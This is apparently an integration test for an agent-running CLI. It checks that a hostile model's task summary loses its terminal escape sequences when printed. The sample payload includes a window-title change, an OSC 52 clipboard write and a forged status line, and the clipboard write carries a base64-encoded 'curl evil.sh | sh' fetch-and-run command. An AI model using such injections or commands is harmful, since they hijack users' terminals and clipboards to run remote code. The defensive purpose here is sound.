/**
 * A hostile model's finish summary carries terminal escape sequences (window
 * title, OSC 52 clipboard write, a forged status line); `drydock start --wait`,
 * `result` and `pr show` print it without a single escape byte.
 */
import { useAgentStack } from '../support/agent-stack';
import { loadScript } from '../../scripted-model';
import { fixturePath, makeGitRepo } from '../support/git-fixtures';
import { runCli } from '../support/cli';

const stack = useAgentStack();
const HOSTILE = `Fixed add()\x1b]0;pwned\x07\x1b]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\x07\x1b[2K\rstatus succeeded`;
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

test('a summary holding escape sequences prints with none in start --wait, result and pr show', async () => {
  const repo = makeGitRepo('demo-repo');
  const script = loadScript(fixturePath('scripts/demo.json'));
  const finish = script[script.length - 1] as { calls: { arguments: { summary: string } }[] };
  finish.calls[0]!.arguments.summary = HOSTILE;
  stack.model.push(...script);
  const env = {
    TEMPORAL_ADDRESS: stack.env.address,
    DRYDOCK_DATA_DIR: stack.workers.config.dataDir,
    OPENAI_BASE_URL: stack.model.url,
  };
  const id = `escapes-${Math.random().toString(36).slice(2, 8)}`;

  const started = await runCli(
    ['start', '--repo', repo, '--goal', 'Make the failing test in test/math.test.js pass', '--id', id, '--wait'],
    env,
  );
  expect(started.stderr).toBe('');
  expect(started.code).toBe(0);
  expect(started.stdout).not.toMatch(UNSAFE);
  expect(started.stdout).toMatch(/^summary +Fixed add\(\)status succeeded$/m);

  const result = await runCli(['result', id], env);
  expect(result.stdout).not.toMatch(UNSAFE);
  expect(result.stdout).toMatch(/^summary +Fixed add\(\)status succeeded$/m);
  const json = await runCli(['result', id, '--json'], env);
  expect(json.stdout).not.toMatch(UNSAFE);
  const parsed = JSON.parse(json.stdout) as { summary: string; pr: { id: string } };
  expect(parsed.summary).toContain('\x1b]0;pwned');

  const show = await runCli(['pr', 'show', parsed.pr.id], env);
  expect(show.code).toBe(0);
  expect(show.stdout).not.toMatch(UNSAFE);
  expect(show.stdout).toContain('Fixed add()');
}, 300_000);
